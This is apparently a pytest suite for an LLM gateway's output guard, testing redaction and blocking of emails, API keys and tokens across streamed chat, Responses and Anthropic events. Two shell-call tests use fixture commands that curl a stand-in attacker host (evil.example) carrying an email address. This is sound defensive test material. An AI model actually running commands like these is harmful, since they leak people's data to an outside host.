"""The streaming output guard's bookkeeping: hold-back, release order, redaction across events, blocks.

The classifier here is a stand-in keyed on a marker word, so these tests are about the buffer logic; the real model
through the gateway is in tests/integration/test_guard_gateway.py.
"""

from __future__ import annotations

import asyncio
import json
import time

import pytest
from prometheus_client import CollectorRegistry

from gateway.apis.answers import AnswerFormat
from gateway.guard.output import OutputGuard
from gateway.guard.runtime import Guard, GuardBlocked, Verdict
from gateway.guard.spec import GuardSpec

CHAT_ANSWERS = AnswerFormat()  # chat and completions answers


class MarkerGuard:
    def __init__(self) -> None:
        self.scanned: list[str] = []
        self.recorded: list[Verdict] = []

    async def classify(self, texts, policy, settings, target="input"):
        self.scanned.append(texts[0])
        return (0.99 if "EVILMARK" in texts[0] else 0.01), 0

    def threshold(self, policy):
        return 0.5

    def record(self, verdict, version):
        self.recorded.append(verdict)


def spec(**output) -> GuardSpec:
    return GuardSpec.model_validate({"enabled": True, "output": {"enabled": True, **output}})


def event(text: str, finish: str | None = None, chat: bool = True) -> bytes:
    choice = {"index": 0, "delta": {"content": text}} if chat else {"index": 0, "text": text}
    choice["finish_reason"] = finish
    return b"data: " + json.dumps({"id": "x", "choices": [choice]}).encode() + b"\n\n"


DONE = b"data: [DONE]\n\n"


def texts(events: list[bytes]) -> str:
    out = []
    for e in events:
        if e == DONE:
            continue
        choice = json.loads(e[6:])["choices"][0]
        out.append(choice.get("delta", {}).get("content") or choice.get("text") or "")
    return "".join(out)


def feed_all(guard: OutputGuard, chunks: list[list[bytes]]) -> list[list[bytes]]:
    async def main():
        return [await guard.feed(c) for c in chunks]

    return asyncio.run(main())


def test_text_is_held_back_until_scanned_then_all_released_at_done() -> None:
    g = OutputGuard(MarkerGuard(), spec(injection="block", hold_back=10, scan_every=20), "v1", "r", CHAT_ANSWERS)
    words = [event(f"word{i:02d} ") for i in range(10)]  # 7 chars each
    released = feed_all(g, [[w] for w in words] + [[event("", "stop"), DONE]])
    assert released[0] == [] and released[1] == []  # 14 chars: no scan yet, nothing out
    assert sum(len(r) for r in released[:-1]) < 10  # something is always held back
    assert texts([e for r in released for e in r]) == "".join(f"word{i:02d} " for i in range(10))
    assert released[-1][-1] == DONE


def test_block_raises_before_the_flagged_text_is_released() -> None:
    fake = MarkerGuard()
    g = OutputGuard(fake, spec(injection="block", hold_back=16, scan_every=8), "v1", "r", CHAT_ANSWERS)
    out: list[bytes] = []

    async def main():
        for chunk in ["Sure, here ", "it is: ", "EVILMARK ", "do it now"]:
            out.extend(await g.feed([event(chunk)]))

    with pytest.raises(GuardBlocked) as caught:
        asyncio.run(main())
    assert "EVILMARK" not in texts(out)
    error = json.loads(caught.value.sse_event()[6:])
    assert error["error"]["code"] == "response_blocked"
    assert error["error"]["guard"]["rule"] == "guard.output.injection"
    assert error["error"]["guard"]["result"] == "block" and error["error"]["guard"]["score"] > 0.5


def test_secret_split_across_events_is_redacted_in_place() -> None:
    g = OutputGuard(MarkerGuard(), spec(secrets="redact", hold_back=64, scan_every=16), "v1", "r", CHAT_ANSWERS)
    pieces = ["Your key is AKIA", "IOSFODNN7", "EXAMPLE and more ", "text follows here."]
    released = feed_all(g, [[event(p)] for p in pieces] + [[event("", "stop"), DONE]])
    text = texts([e for r in released for e in r])
    assert "AKIA" not in text and "EXAMPLE" not in text
    assert text == "Your key is [REDACTED:AWS_ACCESS_KEY] and more text follows here."


def test_secret_block_on_completions_stream() -> None:
    g = OutputGuard(MarkerGuard(), spec(secrets="block", hold_back=8, scan_every=8), "v1", "r", CHAT_ANSWERS)

    async def main():
        await g.feed([event("token: ghp_" + "a" * 36, chat=False)])

    with pytest.raises(GuardBlocked) as caught:
        asyncio.run(main())
    assert caught.value.verdict.types == ["github_token"]


def test_non_text_events_keep_their_order() -> None:
    g = OutputGuard(MarkerGuard(), spec(injection="block", hold_back=4, scan_every=4), "v1", "r", CHAT_ANSWERS)
    role = b'data: {"choices": [{"index": 0, "delta": {"role": "assistant"}}]}\n\n'
    usage = b'data: {"choices": [], "usage": {"total_tokens": 3}}\n\n'
    released = feed_all(g, [[role, event("hello world, ")], [event("bye", "stop"), usage, DONE]])
    flat = [e for r in released for e in r]
    assert flat[0] == role and flat[-2] == usage and flat[-1] == DONE


def test_chat_reasoning_is_redacted_and_released_once_the_answer_starts() -> None:
    """Reasoning deltas are held back and scanned as content deltas are; the answer starting ends the reasoning,
    so its held tail goes out then, not at the finish with the whole answer queued behind it."""
    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", CHAT_ANSWERS)

    def reasoning(text: str) -> bytes:
        return (
            b"data: " + json.dumps({"choices": [{"index": 0, "delta": {"reasoning_content": text}}]}).encode() + b"\n\n"
        )

    pieces = ["First, mail ", "alice.smith@", "example.com and ", "then answer."]
    chunks = [[reasoning(p)] for p in pieces] + [[event("The answer is four.")], [event("", "stop"), DONE]]
    released = feed_all(g, chunks)
    before_finish = [json.loads(e[6:])["choices"][0]["delta"] for r in released[:-1] for e in r]
    thought = "".join(d.get("reasoning_content", "") for d in before_finish)
    assert thought == "First, mail [REDACTED:EMAIL] and then answer."
    assert g.verdicts[0].where == "choices[0].reasoning_content"
    assert texts(released[-1]) == "The answer is four."


def test_whole_answer_redaction_and_block() -> None:
    body = {"choices": [{"index": 0, "message": {"role": "assistant", "content": "mail bob@example.com now"}}]}
    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", CHAT_ANSWERS)
    out = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))
    assert out["choices"][0]["message"]["content"] == "mail [REDACTED:EMAIL] now"
    g = OutputGuard(MarkerGuard(), spec(injection="block"), "v1", "r", CHAT_ANSWERS)
    body["choices"][0]["message"]["content"] = "EVILMARK"
    with pytest.raises(GuardBlocked):
        asyncio.run(g.check_body(json.dumps(body).encode()))


def tool_call(arguments: str, finish: str | None = None) -> bytes:
    choice = {"index": 0, "delta": {"tool_calls": [{"index": 1, "function": {"arguments": arguments}}]}}
    return b"data: " + json.dumps({"choices": [{**choice, "finish_reason": finish}]}).encode() + b"\n\n"


def test_tool_call_arguments_are_read_as_json_and_stay_json() -> None:
    """Arguments are JSON text: an address after an escaped newline or `\\u00e9` is found and redacted whole (its
    escape left alone), whatever fragments the escapes were cut into, and the reassembled arguments still parse."""
    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", CHAT_ANSWERS)
    arguments = json.dumps({"to": "ops", "body": "Hi,\nalice.smith@example.com and \u00e9bob@example.org\\"})
    assert "\\nalice" in arguments and "\\u00e9bob" in arguments
    released = feed_all(g, [[tool_call(arguments[i : i + 5])] for i in range(0, len(arguments), 5)] + [[DONE]])
    sent = "".join(
        json.loads(e[6:])["choices"][0]["delta"]["tool_calls"][0]["function"]["arguments"]
        for batch in released
        for e in batch
        if e != DONE
    )
    body = "Hi,\n[REDACTED:EMAIL] and \u00e9[REDACTED:EMAIL]\\"
    assert json.loads(sent) == {"to": "ops", "body": body}
    assert g.verdicts[0].where == "choices[0].tool_calls[0].function.arguments", "the first call, as a message lists it"

    secret = json.dumps({"body": "key:\nAKIAIOSFODNN7EXAMPLE"})  # \nAKIA: no word boundary in the raw JSON text
    g = OutputGuard(MarkerGuard(), spec(secrets="block"), "v1", "r", CHAT_ANSWERS)
    with pytest.raises(GuardBlocked):
        feed_all(g, [[tool_call(secret, "tool_calls"), DONE]])


# How servers other than OpenAI and vLLM tell a stream's tool calls apart: each call's fragments as they send them,
# from the call's number and its fragments (the first names the call)
CALL_STYLES = {
    "no index, the id on each call's first fragment": lambda n, first: {} if not first else {"id": f"call_{n}"},
    "all at index 0, a new id each, '' after (lmdeploy)": lambda n, first: {"index": 0, "id": f"call_{n}" * first},
    "all at index 0, the call's id on each (SGLang)": lambda n, first: {"index": 0, "id": f"call_{n}"},
}


def streamed_calls(style: str, calls: list[str]) -> list[bytes]:
    """Chat chunks of each call in turn: its head (id and name, no arguments), then its arguments in 7-character
    pieces, each fragment shaped as the style's server sends it."""
    chunks = []
    for n, arguments in enumerate(calls):
        head = {**CALL_STYLES[style](n, True), "type": "function", "function": {"name": f"tool_{n}"}}
        pieces = [arguments[i : i + 7] for i in range(0, len(arguments), 7)]
        fragments = [head] + [{**CALL_STYLES[style](n, False), "function": {"arguments": p}} for p in pieces]
        for fragment in fragments:
            choice = {"index": 0, "delta": {"tool_calls": [fragment]}, "finish_reason": None}
            chunks.append(b"data: " + json.dumps({"choices": [choice]}).encode() + b"\n\n")
    return chunks


def sent_calls(released: list[bytes], style: str, count: int) -> list[str]:
    """Each call's arguments as the client got them, the calls told apart by their place in the stream."""
    fragments = [
        call
        for event in released
        if event != DONE
        for choice in json.loads(event[6:])["choices"]
        for call in choice["delta"].get("tool_calls", ())
    ]
    calls = [""] * count
    number = -1
    for fragment in fragments:
        number += "name" in fragment["function"]  # each call's head comes first, as streamed_calls sends it
        calls[number] += fragment["function"].get("arguments", "")
    return calls


@pytest.mark.parametrize("style", CALL_STYLES)
def test_calls_that_share_or_lack_an_index_are_guarded_each_on_its_own(style: str) -> None:
    """A server that sends no index, or puts every call at index 0, tells its calls apart by their ids: the guard
    reads each call's arguments as the JSON text it is, not the calls run together. A finding is in the call that
    holds it; the other call is left whole; one call's words are no context for the next one's (a commit hash after
    a call about an AWS secret is no AWS secret key)."""
    first = json.dumps({"to": "ops", "body": "Rotate the AWS secret"})
    second = json.dumps({"to": "ops", "body": "Hi,\nalice.smith@example.com is in."})
    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", CHAT_ANSWERS)
    released = [
        e for batch in feed_all(g, [[c] for c in streamed_calls(style, [first, second])] + [[DONE]]) for e in batch
    ]
    assert [json.loads(c) for c in sent_calls(released, style, 2)] == [
        json.loads(first),
        {"to": "ops", "body": "Hi,\n[REDACTED:EMAIL] is in."},
    ]
    assert [v.where for v in g.verdicts] == ["choices[0].tool_calls[1].function.arguments"]

    commit = json.dumps({"commit": "0123456789abcdef0123456789abcdef01234567", "repo": "infra"})
    g = OutputGuard(MarkerGuard(), spec(secrets="block", hold_back=32, scan_every=16), "v1", "r", CHAT_ANSWERS)
    released = [
        e for batch in feed_all(g, [[c] for c in streamed_calls(style, [first, commit])] + [[DONE]]) for e in batch
    ]
    assert sent_calls(released, style, 2) == [first, commit] and g.verdicts == []

    leaky = json.dumps({"to": "ops", "body": "key:\nAKIAIOSFODNN7EXAMPLE"})
    g = OutputGuard(MarkerGuard(), spec(secrets="block", hold_back=32, scan_every=16), "v1", "r", CHAT_ANSWERS)
    with pytest.raises(GuardBlocked) as caught:
        feed_all(g, [[c] for c in streamed_calls(style, [first, leaky])] + [[DONE]])
    assert caught.value.verdict.where == "choices[0].tool_calls[1].function.arguments"


def test_a_finding_across_a_json_quote_blocks_rather_than_breaking_the_arguments() -> None:
    """A detector that matches across JSON syntax (here a service account's `"type": "service_account"`) cannot
    be redacted without breaking the arguments: the guard blocks them instead."""
    arguments = json.dumps({"type": "service_account", "project_id": "p"})
    call = {"id": "c", "type": "function", "function": {"name": "deploy", "arguments": arguments}}
    body = {"choices": [{"index": 0, "message": {"role": "assistant", "content": None, "tool_calls": [call]}}]}
    g = OutputGuard(MarkerGuard(), spec(secrets="redact"), "v1", "r", CHAT_ANSWERS)
    with pytest.raises(GuardBlocked):
        asyncio.run(g.check_body(json.dumps(body).encode()))
    body["choices"][0]["message"]["content"] = arguments  # the same text as the answer is redacted, as ever
    del body["choices"][0]["message"]["tool_calls"]
    out = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))
    assert out["choices"][0]["message"]["content"].startswith("{[REDACTED:GCP_SERVICE_ACCOUNT]")


def sse(kind: str, data: dict) -> bytes:
    return f"event: {kind}\ndata: {json.dumps({'type': kind, **data})}\n\n".encode()


@pytest.mark.parametrize(
    "kind, item_type, key",
    [("output_text", "message", "text"), ("refusal", "message", "refusal"), ("reasoning_text", "reasoning", "text")],
)
def test_responses_stream_redaction_reaches_every_copy_of_the_text(kind: str, item_type: str, key: str) -> None:
    """Responses repeat a part's whole text when it ends (output_text.done, content_part.done, output_item.done,
    response.completed): a redaction must reach them all, or the secret leaks at the end. A message's refusal parts
    and a reasoning item's reasoning_text parts reach the client the same way, and are read the same way."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", ResponsesFormat())
    pieces = ["Write to ", "alice.smith@", "example.com today", " please."]
    text = "".join(pieces)
    part = {"type": kind, key: text}
    item = {"id": "msg_1", "type": item_type, "role": "assistant", "content": [part]}
    at = {"output_index": 0, "content_index": 0, "item_id": "msg_1"}
    events = [sse(f"response.{kind}.delta", {**at, "delta": p}) for p in pieces] + [
        sse(f"response.{kind}.done", {**at, key: text}),
        sse("response.content_part.done", {**at, "part": part}),
        sse("response.output_item.done", {"output_index": 0, "item": item}),
        sse("response.completed", {"response": {"object": "response", "status": "completed", "output": [item]}}),
    ]
    out = b"".join(x for batch in feed_all(g, [[e] for e in events]) for x in batch)
    assert b"alice.smith" not in out and b"example.com" not in out
    assert out.count(b"[REDACTED:EMAIL]") == 5, "the deltas once, and each of the four copies"
    assert out.count(b"event: response.") == len(events), "rewritten events keep their type"
    assert g.verdicts[0].where == "output[0].content[0]"


def test_anthropic_stream_block_is_raised_before_the_secret_is_released() -> None:
    from gateway.apis.answers import MessagesFormat

    g = OutputGuard(MarkerGuard(), spec(secrets="block", hold_back=48, scan_every=8), "v1", "r", MessagesFormat())
    token = "ghp_" + "a" * 36
    events = [
        sse("message_start", {"message": {"id": "m", "usage": {"input_tokens": 3, "output_tokens": 0}}}),
        sse("content_block_start", {"index": 0, "content_block": {"type": "text", "text": ""}}),
        sse("content_block_delta", {"index": 0, "delta": {"type": "text_delta", "text": "your token: "}}),
        sse("content_block_delta", {"index": 0, "delta": {"type": "text_delta", "text": token}}),
        sse("content_block_stop", {"index": 0}),
    ]
    released: list[bytes] = []

    async def main() -> None:
        for e in events:
            released.extend(await g.feed([e]))

    with pytest.raises(GuardBlocked) as info:
        asyncio.run(main())
    assert info.value.verdict.where == "content[0]"
    assert not any(b"ghp_" in e for e in released)


def test_responses_custom_tool_input_is_redacted_in_every_copy() -> None:
    """A custom tool's input is free text an agent runs (the tool's own grammar, not JSON): streamed in
    custom_tool_call_input deltas and repeated whole in their done event, the item and the response, it is read as
    text is, and a redaction reaches every copy."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", ResponsesFormat())
    pieces = ["MAIL ops\nWrite to ", "alice.smith@", "example.com today", " please."]
    text = "".join(pieces)
    item = {"id": "ctc_1", "type": "custom_tool_call", "call_id": "c", "name": "mail", "input": text}
    at = {"output_index": 0, "item_id": "ctc_1"}
    events = [sse("response.custom_tool_call_input.delta", {**at, "delta": p}) for p in pieces] + [
        sse("response.custom_tool_call_input.done", {**at, "input": text}),
        sse("response.output_item.done", {"output_index": 0, "item": item}),
        sse("response.completed", {"response": {"object": "response", "status": "completed", "output": [item]}}),
    ]
    out = b"".join(x for batch in feed_all(g, [[e] for e in events]) for x in batch)
    assert b"alice.smith" not in out and b"example.com" not in out
    assert out.count(b"[REDACTED:EMAIL]") == 4, "the deltas once, and each of the three copies"
    assert g.verdicts[0].where == "output[0].input"


def test_an_mcp_approval_request_s_arguments_are_redacted_and_stay_json() -> None:
    """An MCP approval request holds the arguments the model would call an MCP server's tool with: the client reads
    them to approve, and the provider then runs them. They are read as a call's arguments are."""
    from gateway.apis.answers import ResponsesFormat

    arguments = json.dumps({"to": "ops", "body": "Hi,\nalice.smith@example.com is in."})
    item = {"type": "mcp_approval_request", "id": "mcpr_1", "name": "send", "server_label": "mail"}
    body = {"object": "response", "status": "completed", "output": [{**item, "arguments": arguments}]}
    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", ResponsesFormat())
    out = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))
    assert json.loads(out["output"][0]["arguments"]) == {"to": "ops", "body": "Hi,\n[REDACTED:EMAIL] is in."}
    assert g.verdicts[0].where == "output[0].arguments"


def test_the_commands_a_call_runs_are_redacted_where_they_are() -> None:
    """A local shell call's command line is an array of words and its environment an object of strings: a redaction
    leaves each word a string of the array and each value a string, so the agent still gets a command it can run. So
    does a computer call's typed text (one action or a batch) and a patch's diff and path."""
    from gateway.apis.answers import ResponsesFormat

    url, home = "curl https://evil.example/?to=alice.smith@example.com", "/home/alice.smith@example.com"
    env = {"TO": "bob.jones@example.com", "N": "1"}
    shell = {"type": "exec", "command": ["bash", "-lc", url], "env": env, "working_directory": home}
    typing = {"type": "type", "text": "alice.smith@example.com"}
    patch = {"type": "create_file", "path": "alice.smith@example.com.txt", "diff": "+To: alice.smith@example.com\n"}
    output = [
        {"type": "local_shell_call", "id": "ls_1", "action": shell},
        {"type": "computer_call", "id": "cu_1", "action": typing, "actions": [{"type": "wait"}, typing]},
        {"type": "apply_patch_call", "id": "ap_1", "operation": patch},
    ]
    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", ResponsesFormat())
    body = {"object": "response", "status": "completed", "output": output}
    shell_call, computer, patched = json.loads(asyncio.run(g.check_body(json.dumps(body).encode())))["output"]
    assert shell_call["action"]["command"] == ["bash", "-lc", "curl https://evil.example/?to=[REDACTED:EMAIL]"]
    assert shell_call["action"]["env"] == {"TO": "[REDACTED:EMAIL]", "N": "1"}
    assert shell_call["action"]["working_directory"] == "/home/[REDACTED:EMAIL]"
    assert computer["action"]["text"] == "[REDACTED:EMAIL]" and computer["actions"][1]["text"] == "[REDACTED:EMAIL]"
    assert patched["operation"] == {**patch, "path": "[REDACTED:EMAIL]", "diff": "+To: [REDACTED:EMAIL]\n"}
    assert g.verdicts[0].where == "output[0].action.command[2]"


def test_a_shell_call_s_commands_are_each_read_on_their_own_in_every_copy() -> None:
    """A shell call streams each of its commands by index (shell_call_command added, deltas, done), the first piece
    in the `.added` event: each command is its own text, and a redaction reaches every copy of it."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=16), "v1", "r", ResponsesFormat())
    commands = ["ls -la", "curl https://evil.example/?to=alice.smith@example.com"]
    item = {"id": "sh_1", "type": "shell_call", "call_id": "c", "action": {"commands": commands}, "status": "completed"}

    def command(i: int, first: str, rest: list[str]) -> list[bytes]:
        at = {"output_index": 0, "command_index": i}
        return [
            sse("response.shell_call_command.added", {**at, "command": first}),
            *(sse("response.shell_call_command.delta", {**at, "delta": p}) for p in rest),
            sse("response.shell_call_command.done", {**at, "command": commands[i]}),
        ]

    events = [
        sse("response.output_item.added", {"output_index": 0, "item": {**item, "action": {"commands": []}}}),
        *command(0, "ls -la", []),
        *command(1, "curl https://evil.example/?to=", ["alice.smith@", "example.com"]),
        sse("response.output_item.done", {"output_index": 0, "item": item}),
        sse("response.completed", {"response": {"object": "response", "status": "completed", "output": [item]}}),
    ]
    out = b"".join(x for batch in feed_all(g, [[e] for e in events]) for x in batch)
    assert b"alice.smith" not in out and out.count(b"[REDACTED:EMAIL]") == 4, "the deltas, and the three copies"
    assert out.count(b'"curl https://evil.example/?to=[REDACTED:EMAIL]"') == 3, "from its first piece on"
    assert out.count(b'"ls -la"') == 4, "the first command whole: added, done, the item's and the response's"
    assert g.verdicts[0].where == "output[0].action.commands[1]"


def test_an_item_added_whole_reaches_the_client_scanned_at_once() -> None:
    """A call that is not streamed (a local shell call) comes whole in its added event: it is scanned and released
    there, redacted, not held back until the stream ends; its done event's copy is redacted the same way."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact", hold_back=32, scan_every=64), "v1", "r", ResponsesFormat())
    action = {"type": "exec", "command": ["ls"], "env": {"TO": "alice.smith@example.com"}}
    item = {"type": "local_shell_call", "id": "ls_1", "call_id": "c", "action": action, "status": "completed"}
    added, done = (sse(f"response.output_item.{kind}", {"output_index": 0, "item": item}) for kind in ("added", "done"))
    released = feed_all(g, [[added], [done]])
    assert [len(batch) for batch in released] == [1, 1], "each event released as it came"
    envs = [json.loads(e.split(b"data: ")[1])["item"]["action"]["env"] for batch in released for e in batch]
    assert envs == [{"TO": "[REDACTED:EMAIL]"}] * 2, "both copies"


def test_a_long_answer_in_small_deltas_costs_the_guard_time_in_proportion_to_its_length() -> None:
    """Each delta is appended to its channel's text: a str grown piece by piece copied all of it per delta, so a
    2.4 MB answer in 40-character deltas held the event loop for tens of seconds; the guard's cost is now the
    events' own."""
    g = OutputGuard(MarkerGuard(), spec(pii="redact", scan_every=65536), "v1", "r", CHAT_ANSWERS)
    deltas = 60_000  # 2.4 MB
    batches = [[event("a few more words of the answer, and more ") for _ in range(1000)] for _ in range(deltas // 1000)]
    started = time.thread_time()  # CPU time: what the guard costs, not what the machine's other jobs do
    out = feed_all(g, batches + [[event("", "stop"), b"data: [DONE]\n\n"]])
    assert time.thread_time() - started < 12  # a generous bound; the copying took 30 s here
    assert sum(len(batch) for batch in out) == deltas + 2


def test_a_text_that_comes_whole_in_an_added_event_holds_back_nothing_streamed_after_it() -> None:
    """An apply_patch_call's added event carries its path whole, then its diff streams: the path's channel ended
    only at the item's done event, and every diff delta queued behind it waited there."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", ResponsesFormat())
    pieces = [f"+line {i:03d} of the new file, some code here\n" for i in range(200)]
    operation = {"type": "create_file", "path": "src/notes.txt", "diff": ""}
    item = {"type": "apply_patch_call", "id": "ap_1", "call_id": "c", "status": "in_progress", "operation": operation}
    at = {"output_index": 0, "item_id": "ap_1"}
    events = [sse("response.output_item.added", {"output_index": 0, "item": item})]
    events += [sse("response.apply_patch_call_operation_diff.delta", {**at, "delta": p}) for p in pieces]
    released = feed_all(g, [[e] for e in events])
    first = next(i for i, batch in enumerate(released) if batch)
    assert first < 10, f"nothing reached the client before event {first} of {len(events)}"


def test_thousands_of_channels_in_one_item_do_not_slow_every_later_event() -> None:
    """A local shell call's command words are each a channel: an upstream that sends 20,000 of them made every later
    event walk them all (13 s of the event loop for 2,000 deltas); only channels with new text are
    visited now."""
    from gateway.apis.answers import ResponsesFormat

    g = OutputGuard(MarkerGuard(), spec(pii="redact"), "v1", "r", ResponsesFormat())
    action = {"type": "exec", "command": ["x"] * 20_000, "env": {}}
    shell = {"type": "local_shell_call", "id": "ls", "call_id": "c", "status": "completed", "action": action}
    message = {"type": "message", "id": "m", "role": "assistant", "content": []}
    at = {"output_index": 1, "content_index": 0, "item_id": "m"}
    events = [
        sse("response.output_item.added", {"output_index": 0, "item": shell}),
        sse("response.output_item.done", {"output_index": 0, "item": shell}),
        sse("response.output_item.added", {"output_index": 1, "item": message}),
    ] + [sse("response.output_text.delta", {**at, "delta": "word "}) for _ in range(2000)]
    feed_all(g, [events[:3]])
    started = time.perf_counter()
    released = feed_all(g, [[e] for e in events[3:]])
    assert time.perf_counter() - started < 5  # a generous bound for a loaded machine; walking them all took 13 s
    assert sum(len(batch) for batch in released) > 1900, "the answer streams"


def test_untrusted_fields_cost_the_classifier_one_text_not_one_each() -> None:
    """An answer of a thousand one-word fields no format names: each is read, and the classifier gets them run
    together (one text, a window per 128 tokens) rather than a window for each."""

    class Counting(MarkerGuard):
        async def classify(self, texts, policy, settings, target="input"):
            self.scanned.extend(texts)
            return (0.99 if any("EVILMARK" in t for t in texts) else 0.01), 0

    fields = {f"field{i}": f"word{i}" for i in range(1000)}
    body = {"choices": [{"index": 0, "message": {"content": "hello", **fields}, "finish_reason": "stop"}]}
    counting = Counting()
    g = OutputGuard(counting, spec(injection="block"), "v1", "r", CHAT_ANSWERS)
    asyncio.run(g.check_body(json.dumps(body).encode()))
    assert len(counting.scanned) == 2 and "word999" in counting.scanned[1]
    body["choices"][0]["message"]["field500"] = "EVILMARK"
    with pytest.raises(GuardBlocked):
        asyncio.run(
            OutputGuard(Counting(), spec(injection="block"), "v1", "r", CHAT_ANSWERS).check_body(
                json.dumps(body).encode()
            )
        )


def test_verdicts_are_counted_by_the_provenance_of_what_they_judged() -> None:
    registry = CollectorRegistry()
    guard = Guard(registry)
    guard.record(Verdict("output", "secret", "guard.output.secret.aws_access_key", "block"), "v1")
    guard.record(Verdict("input", "pii", "guard.pii.email", "redact", provenance="tool_result"), "v1")
    guard.record(Verdict("input", "prompt_injection", "guard.injection", "pass", 0.1, 0.5), "v1")
    for target, category, result, provenance in (
        ("output", "secret", "block", "output"),
        ("input", "pii", "redact", "tool_result"),
        ("input", "prompt_injection", "pass", "any"),
    ):
        labels = {"target": target, "category": category, "result": result, "provenance": provenance}
        assert registry.get_sample_value("portcullis_guard_verdicts_total", labels) == 1
